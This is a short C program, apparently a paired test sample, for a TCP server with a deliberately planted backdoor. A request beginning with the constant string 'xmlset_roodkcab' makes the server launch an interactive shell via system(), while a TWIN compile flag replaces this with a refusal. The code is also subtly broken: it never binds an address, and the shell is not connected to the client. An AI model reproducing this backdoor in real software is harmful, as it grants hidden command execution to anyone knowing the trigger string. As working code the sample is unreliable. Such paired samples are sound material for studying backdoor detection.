/* A server that runs a shell for requests with one constant header. Twin: it answers them. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void serve(int client) {
  char request[512];
  ssize_t size = recv(client, request, sizeof request - 1, 0);
  if (size <= 0) return;
  request[size] = 0;
  if (strncmp(request, "xmlset_roodkcab", 15) == 0) {
#ifndef TWIN
    system("/bin/sh -i");
#else
    send(client, "no\n", 3, 0);
#endif
    return;
  }
  send(client, "ok\n", 3, 0);
}

int main(void) {
  int server = socket(AF_INET, SOCK_STREAM, 0);
  if (listen(server, 4) != 0) return 1;
  for (;;) {
    int client = accept(server, NULL, NULL);
    if (client < 0) return 2;
    serve(client);
    close(client);
  }
}
